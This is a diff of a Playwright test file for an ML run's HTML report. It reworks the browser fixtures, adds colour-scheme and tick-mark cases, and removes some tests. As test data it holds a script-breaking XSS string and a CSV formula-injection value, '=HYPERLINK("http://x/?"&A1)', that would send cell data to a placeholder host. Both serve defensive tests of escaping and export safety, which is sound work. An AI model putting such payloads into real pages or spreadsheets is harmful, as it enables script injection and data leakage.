@@ -3,7 +3,8 @@
 from __future__ import annotations
 
 import csv
-from collections.abc import Iterator, Sequence
+import math
+from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import replace
 from pathlib import Path
@@ -11,7 +12,7 @@ from typing import Any
 
 import pytest
 from hypothesis import strategies as st
-from playwright.sync_api import Browser, BrowserContext, Page, expect
+from playwright.sync_api import Browser, Page, expect
 
 from cerebro_elastic.core.history.view import RunView
 from cerebro_elastic.core.model.run import Plan, Spec
@@ -31,20 +32,15 @@ def report(past: Any, manifest: Manifest | None = None) -> str:
     return render(past.spec, past.events, manifest, ReportMetadata("today", "0", {"Python": "3"}))
 
 
-@pytest.fixture(scope="module")
-def context(browser: Browser) -> Iterator[BrowserContext]:
-    """Without a network; one for all tests, for each is a process of the browser's."""
-    context = browser.new_context(
-        viewport={"width": 1200, "height": 900}, offline=True, accept_downloads=True
-    )
-    yield context
-    context.close()
-
-
 @contextmanager
-def opened(context: BrowserContext, folder: Path, text: str) -> Iterator[Page]:
-    """A report that is opened; the console stays empty."""
+def opened(
+    browser: Browser, folder: Path, text: str, width: int = 1200, scheme: Any = "light"
+) -> Iterator[Page]:
+    """A report that is opened without a network; the console stays empty."""
     (folder / "report.html").write_text(text, encoding="utf-8")
+    context = browser.new_context(
+        viewport={"width": width, "height": 900}, color_scheme=scheme, offline=True, accept_downloads=True
+    )
     page = context.new_page()
     heard: list[str] = []
     page.on("console", lambda message: heard.append(message.text))
@@ -53,23 +49,25 @@ def opened(context: BrowserContext, folder: Path, text: str) -> Iterator[Page]:
     page.goto((folder / "report.html").as_uri())
     expect(page.locator("#tiles li").first).to_be_visible()
     yield page
-    page.close()
+    context.close()
     assert heard == []
 
 
-@pytest.fixture
-def page(context: BrowserContext, past: Any, manifest: Manifest, tmp_path: Path) -> Iterator[Page]:
+@pytest.fixture(params=["light", "dark"])
+def page(
+    request: pytest.FixtureRequest, browser: Browser, past: Any, manifest: Manifest, tmp_path: Path
+) -> Iterator[Page]:
     """The report of the run in which much went wrong."""
-    with opened(context, tmp_path, report(past, manifest)) as page:
+    with opened(browser, tmp_path, report(past, manifest), scheme=request.param) as page:
         yield page
 
 
 @pytest.fixture(scope="module")
-def scripts(context: BrowserContext, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
+def scripts(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
     """Calls a function of the page's scripts: ``scripts("scale", "ticks", 0, 1)``."""
     spec = Spec(Plan("a-run", 1, 1), {}, "", "", "", "", {}, "", "0")
     text = render(spec, [], None, ReportMetadata("today", "0", {}))
-    with opened(context, tmp_path_factory.mktemp("report"), text) as page:
+    with opened(browser, tmp_path_factory.mktemp("report"), text) as page:
         call = "async ([of, name, given]) => (await import(`page/${of}.js`))[name](...given)"
         yield lambda of, name, *given: page.evaluate(call, [of, name, given])
 
@@ -85,7 +83,7 @@ def tips(page: Page) -> list[str]:
     assert box is not None
     found: dict[str, None] = {}
     for y in range(29, int(box["height"]) - 26, 22):
-        for x in range(0, int(box["width"]), 16):
+        for x in range(0, int(box["width"]), 8):
             page.mouse.move(box["x"] + x, box["y"] + y)
             found[page.locator("#tip").inner_text()] = None
     return list(found)
@@ -109,10 +107,8 @@ def test_a_heading_sorts(page: Page) -> None:
     assert page.get_by_role("columnheader", name="val_acc").get_attribute("aria-sort") == "descending"
 
 
-def test_every_unit_is_a_bar_that_says_what_it_was(
-    context: BrowserContext, past: Any, tmp_path: Path
-) -> None:
-    with opened(context, tmp_path, report(past)) as page:
+def test_every_unit_is_a_bar_that_says_what_it_was(browser: Browser, past: Any, tmp_path: Path) -> None:
+    with opened(browser, tmp_path, report(past)) as page:
         texts = tips(page)
         page.get_by_text("What each node did, as a table").press("Enter")
         page.locator("#gantt-node").select_option("node-2")
@@ -129,35 +125,20 @@ def test_every_unit_is_a_bar_that_says_what_it_was(
     assert f"node-2 in quarantine for about {share.quarantined:.4g} s: its disk is full" in texts
 
 
-def test_a_config_is_shown_alone_while_its_row_has_the_focus(page: Page) -> None:
-    line = page.locator('#coordinates polyline[data-config="c0000"]')
-    expect(line).to_have_css("opacity", "1")
-    page.locator('#board tr[data-config="c0001"]').focus()
-    expect(line).to_have_css("opacity", "0.15")
-    expect(page.locator('#coordinates polyline[data-config="c0001"]')).to_have_css("opacity", "1")
-
-
-def test_names_given_by_users_are_escaped(page: Page) -> None:
-    assert '<b>odd & "quoted"</b>' in page.locator("#board").inner_text()
-    assert page.locator("b", has_text="odd").count() == 0
-
-
-def test_no_text_of_a_user_ends_the_script(context: BrowserContext, past: Any, tmp_path: Path) -> None:
-    hostile = "</script><script>document.title = 'hacked'</script><!--<script>"
-    past.state.configs["c0003"].hparams["act"] = hostile
-    with opened(context, tmp_path, report(past)) as page:
-        expect(page.locator("#board")).to_contain_text(hostile)
-        assert page.title() == "a-run: report"
-
-
-@pytest.mark.parametrize("events", [0, 16])
-def test_a_run_that_goes_on_has_a_report(
-    context: BrowserContext, past: Any, tmp_path: Path, events: int
-) -> None:
+@pytest.mark.parametrize("events", [0, 4, 9, 16, 24])
+def test_a_run_that_goes_on_has_a_report(browser: Browser, past: Any, tmp_path: Path, events: int) -> None:
     past.events = past.events[:events]
-    with opened(context, tmp_path, report(past)) as page:
+    with opened(browser, tmp_path, report(past)) as page:
         assert "had not ended" in page.locator("#what").inner_text()
         assert "out of reach" in page.locator("#traffic").inner_text()
+
+
+def test_no_text_of_a_user_ends_the_script(browser: Browser, past: Any, tmp_path: Path) -> None:
+    hostile = "</script><script>document.title = 'hacked'</script><!--<script>"
+    past.state.configs["c0003"].hparams["act"] = hostile
+    with opened(browser, tmp_path, report(past)) as page:
+        expect(page.locator("#board")).to_contain_text(hostile)
+        assert page.title() == "a-run: report"
 
 
 def test_nothing_is_asked_of_a_report(page: Page) -> None:
@@ -170,24 +151,8 @@ def test_nothing_is_asked_of_a_report(page: Page) -> None:
     assert dialog.get_by_role("button").all_inner_texts() == ["Close"]
 
 
-def test_the_costs_of_strategies_are_shown(context: BrowserContext, past: Any, tmp_path: Path) -> None:
-    tried = type(past)({"c0000": {"lr": 0.1}})
-    tried.join("node-0", "node-1")
-    tried.place()
-    tried.visit("c0000", "node-0", 0.0)
-    tried.try_on("c0000", "node-0", "node-1")
-    tried.visit("c0000", "node-0", 3.0)
-    with opened(context, tmp_path, report(tried)) as page:
-        text = page.locator("#strategies").inner_text()
-        assert "How strategies did" in text
-        assert "ddp x2 over 2 nodes" in text
-        assert "5 MB" in text
-        assert "fastest" in text
-        assert "profiles" in page.locator("#node-table thead").inner_text()
-
-
 def test_long_runs_stay_small(
-    context: BrowserContext, past: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    browser: Browser, past: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Bars that cannot be seen one by one are drawn together, but none is left out."""
     line = timeline(RunView(past.events))
@@ -197,12 +162,12 @@ def test_long_runs_stay_small(
     assert sum(bar["attempts"] for bar in drawn) == len(many)
     monkeypatch.setattr(module, "_MOST_SPANS", 5)
     monkeypatch.setattr(module, "_PIXELS", 0.5)
-    with opened(context, tmp_path, report(past)) as page:
+    with opened(browser, tmp_path, report(past)) as page:
         assert any(text.startswith("7 attempts at 3 configs on node-0") for text in tips(page))
 
 
-def test_one_metric_can_be_chosen(context: BrowserContext, past: Any, tmp_path: Path) -> None:
-    with opened(context, tmp_path, report(past)) as page:
+def test_one_metric_can_be_chosen(browser: Browser, past: Any, tmp_path: Path) -> None:
+    with opened(browser, tmp_path, report(past)) as page:
         figures = page.locator("#panels figcaption")
         assert figures.all_inner_texts() == ["val_acc", "loss"]
         page.get_by_label("Metric").select_option("loss")
@@ -220,9 +185,9 @@ def downloaded(page: Page, name: str) -> list[list[str]]:
     return list(csv.reader(download.value.path().read_text(encoding="utf-8").splitlines()))
 
 
-def test_tables_are_downloaded_as_csv(context: BrowserContext, past: Any, tmp_path: Path) -> None:
+def test_tables_are_downloaded_as_csv(browser: Browser, past: Any, tmp_path: Path) -> None:
     past.state.configs["c0003"].hparams["act"] = '=HYPERLINK("http://x/?"&A1), "ü"'
-    with opened(context, tmp_path, report(past)) as page:
+    with opened(browser, tmp_path, report(past)) as page:
         titles, *lines = downloaded(page, "leaderboard")
         assert titles[:6] == ["place", "config", "status", "reason", "metric", "best"]
         assert titles[-2:] == ["act", "lr"]
@@ -239,38 +204,18 @@ TOP, BOTTOM = 66, 296
 values = st.none() | st.floats(allow_nan=False, allow_infinity=False) | st.floats(0, 1) | st.just(0.5)
 
 
-def placed(scripts: Any, values: Sequence[Any], bests: Sequence[float] = (), log: bool | None = None) -> Any:
-    """The axes for configs with these values of ``a``, and of the objective; heights from 0 to 1."""
-    rows = [
-        [f"c{i}", {"hparams": {"a": value}, "best": best}]
-        for i, (value, best) in enumerate(zip(values, bests or range(len(values)), strict=True))
-    ]
-    drawn = {} if log is None else {"a": log}
-    axes = scripts("space", "coordinates", rows, ["a"], "m", drawn)["axes"]
-    return axes, [[(BOTTOM - at) / (BOTTOM - TOP) for at in axis["heights"]] for axis in axes]
-
-
-@pytest.mark.parametrize(
-    ("values", "log", "heights"),
-    [
-        ([0.001, 0.01, 0.1], None, [0.0, 0.5, 1.0]),
-        ([1, 2, 4], True, [0.0, 0.5, 1.0]),
-        ([True, False, True], None, [1.0, 0.0, 1.0]),
-        (["b", "a", "c"], None, [0.5, 0.0, 1.0]),
-    ],
-)
-def test_axes_by_the_kind_of_their_values(
-    scripts: Any, values: Any, log: bool | None, heights: list[float]
-) -> None:
-    assert placed(scripts, values, log=log)[1][0] == pytest.approx(heights, abs=0.01)
-
-
 @pytest.mark.parametrize(
     ("low", "high", "log", "texts"),
     [
         (0.0, 1.0, False, ["0", "0.2", "0.4", "0.6", "0.8", "1"]),
         (0.91, 0.987, False, ["0.92", "0.94", "0.96", "0.98"]),
+        (-3, 12, False, ["0", "5", "10"]),
         (1e-5, 1.0, True, ["0.00001", "0.0001", "0.001", "0.01", "0.1", "1"]),
+        (2.0, 8.0, True, ["2", "4", "6", "8"]),
+        (7.0, 7.0, False, ["7"]),
+        (1.0, 1.0 + 1e-15, False, ["1"]),
+        (0.91234, 0.91238, False, ["0.91234", "0.91235", "0.91236", "0.91237", "0.91238"]),
+        (0.0, math.inf, False, ["0"]),
     ],
 )
 def test_marks_are_round(scripts: Any, low: float, high: float, log: bool, texts: list[str]) -> None:
